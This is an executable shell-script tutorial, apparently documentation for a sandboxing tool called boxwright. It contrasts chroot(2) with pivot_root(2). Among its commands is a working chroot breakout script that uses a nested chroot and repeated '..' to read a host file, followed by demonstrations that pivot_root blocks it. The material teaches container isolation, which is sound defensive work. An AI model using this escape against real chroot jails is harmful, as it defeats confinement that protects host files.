#!/bin/sh
# A root of its own: a way out of chroot(2), and why there is none out of pivot_root(2).

## A room with a small world in it
# Here is a root filesystem as small as they come: busybox is a shell and many tools in one static program.
#needs tool busybox
mkdir -p room/usr/bin && ln -s usr/bin room/bin && cp "$(command -v busybox)" room/bin/busybox
for tool in sh ls cat cp mkdir chroot nsenter umount; do ln -s busybox room/bin/$tool; done

# And here is something that nobody in that room shall read:
echo 'the secret of the host' > secret

## chroot shuts the door
# chroot(2) gives a process another `/`. All paths begin there, and `..` does not lead above it:
#needs tool busybox
unshare --map-root-user chroot room ls /

unshare --map-root-user chroot room cat "$PWD/secret" 2>/dev/null || echo 'no such file'

## And root walks out again
# chroot(2) does not move the process: it keeps standing where it stood. So whoever may call it once more makes a second
# room in the first, takes that for a root, and stands outside of it. From there `..` goes up and up, because the one
# directory at which it would stop is not on the way. busybox has a tool that does both:
#needs tool busybox
cat > room/escape <<'END'
mkdir -p /x && cp -a /usr /bin /x
exec nsenter --root=/x --wd=/ chroot ../../../../../../../../../../../.. cat "$1"
END

# The first chroot into the room, then the way out:
unshare --map-root-user chroot room sh /escape "$PWD/secret"

## pivot_root leaves nothing to walk to
# pivot_root(2) moves mounts, not a process: the room becomes the root of the whole mount namespace. What was the root
# before hangs at /old for a moment, and is then unmounted.
#needs tool busybox
#never secret of
cat > pivot <<'END'
mount --bind room room  # pivot_root takes a mount, not any directory
cd room
mkdir -p old
pivot_root . old
umount -l /old
exec "$@"
END

unshare --map-root-user --mount sh pivot ls /

# The same attack climbs as high as it can, and finds itself in the same room:
unshare --map-root-user --mount sh pivot sh /escape "$PWD/secret" 2>/dev/null || echo 'no such file'

## What is held is kept
# Only names are gone. Here is the same once more, by a shell that forgets to step into the room first. Its `/` is the
# room, but it still stands in a directory of the host's:
#needs tool busybox
unshare --map-root-user --mount sh -c '
    mount --bind room room
    pivot_root room room/old
    umount -l /old
    ls /
    cat secret'

## The same with boxwright
# boxwright opens the new root, mounts on it what a program expects to find, and then calls these three: pivot_root,
# umount2 and chdir.
#needs stage pivot-root
boxwright pivot-root

# With --rootfs, the root is a directory of yours. (What is written there goes to an overlay's upper layer.)
#needs tool busybox
#never secret of
boxwright pivot-root -q --rootfs room -- ls /

boxwright pivot-root -q --rootfs room -- sh /escape "$PWD/secret" 2>/dev/null || echo 'no such file'

## Break it
# Without it there is a mount namespace with all that was made for the container, and the host's root in its middle:
#needs stage pivot-root
boxwright pivot-root -q --without pivot-root -- cat "$PWD/secret"
